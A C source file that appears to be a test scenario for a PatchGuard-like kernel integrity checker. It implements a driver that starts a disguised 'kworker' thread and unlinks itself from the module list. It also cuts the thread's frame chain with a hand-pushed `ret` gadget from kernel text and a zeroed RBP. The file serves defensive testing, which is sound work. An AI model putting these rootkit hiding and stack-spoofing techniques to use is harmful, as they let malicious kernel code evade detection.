/* attack_a113_ret_gadget (A113): a hidden kernel thread whose call chain ends before the driver. As attack_a73
 * (thread_create and thread_sleep_ns from the built image, written into
 * the driver by the scenario with printk's address for the kernel's
 * random base), it starts a kernel thread of the system process on its own
 * routine and removes its module record from the module list and the
 * module table. The routine reaches the kernel's routines (sleeping 10 ms
 * at a time, printing every 20 rounds) by pushing its continuation, then
 * the address of a `ret` in kernel text (the one that ends the exported
 * ticks()), and jumping, with RBP zero: the routine it enters saves that
 * zero as its caller's frame and returns to the kernel's `ret`, which
 * returns to the driver. The frame chain PatchGuard walked from each
 * thread's saved frame ends at that zero, with a return address in kernel
 * text; every word that leads into the hidden driver lies above it.
 * Expected (before the fix): no bug check, the thread prints on. */
#include "attack.h"

struct process;

typedef struct thread *(*thread_create_fn)(struct process *p, const char *name, void (*fn)(void *), void *arg);

/* Set by the scenario from the built image's symbols. */
volatile uint64_t printk_at, thread_sleep_at, thread_create_at;

static struct ktimer wait_timer;
static struct dpc wait_dpc;
static struct module *self;
static uint64_t sleep_ns, print, gadget;
static volatile uint64_t rounds;

/* fn(a, b) entered by a jump, with the continuation and then the kernel's
 * `ret` pushed by hand and RBP zero (the stack kept as a call finds it). */
static uint64_t gadget_call(uint64_t fn, uint64_t a, uint64_t b)
{
	uint64_t ret;
	__asm__ volatile("push %%rbp\n\t"
			 "sub $8, %%rsp\n\t"
			 "xor %%ebp, %%ebp\n\t"
			 "lea 1f(%%rip), %%rax\n\t"
			 "push %%rax\n\t"
			 "pushq %[g]\n\t"
			 "jmp *%[fn]\n"
			 "1:\n\t"
			 "add $8, %%rsp\n\t"
			 "pop %%rbp"
			 : "=a"(ret), "+D"(a), "+S"(b), [fn] "+c"(fn)
			 : [g] "m"(gadget)
			 : "rdx", "r8", "r9", "r10", "r11", "memory", "cc");
	return ret;
}

static const char round_fmt[] = "~ attack_a113: hidden thread, round %lu\n";

static void hidden(void *arg)
{
	for (;;) {
		gadget_call(sleep_ns, 10000000ull, 0);
		if (++rounds % 20 == 0)
			gadget_call(print, (uint64_t)round_fmt, rounds);
	}
}

static void attack(struct dpc *d, void *ctx)
{
	if (!thread_create_at || !thread_sleep_at || !printk_at)
		return;
	uint64_t slide = (uint64_t)&printk - printk_at;
	thread_create_fn create = (thread_create_fn)(thread_create_at + slide);
	sleep_ns = thread_sleep_at + slide;
	print = (uint64_t)&printk;
	thread_create_at = 0;
	timer_cancel(&wait_timer);
	/* The `ret` that ends ticks() (a RIP-relative load, then ret). */
	const uint8_t *t = (const uint8_t *)&ticks;
	for (int i = 0; i < 32 && !gadget; i++)
		if (t[i] == 0xC3)
			gadget = (uint64_t)&t[i];
	if (!a_in_kernel_text((uint64_t)create) || !a_in_kernel_text(sleep_ns) || !gadget) {
		printk("attack_a113: thread_create, thread_sleep_ns or a ret not in kernel text\n");
		return;
	}
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	if (!create(NULL, "kworker", hidden, NULL)) {
		a_restore(pf);
		printk("attack_a113: thread_create failed\n");
		return;
	}
	a_hide_module(self, a_module_slot(self));
	printk("attack_a113: a kernel thread runs the driver's code, its frame chain cut at a kernel ret; the driver hidden from the module list and table\n");
	a_patched("attack_a113");
	a_restore(pf);
}

status_t driver_entry(struct driver_object *drv)
{
	self = a_module_of(drv);
	dpc_init(&wait_dpc, attack, NULL);
	timer_init(&wait_timer, &wait_dpc);
	timer_set(&wait_timer, 1000000ull, 1000000ull);
	printk("attack_a113: waiting for the addresses of thread_create and thread_sleep_ns\n");
	return KPP_STATUS_SUCCESS;
}
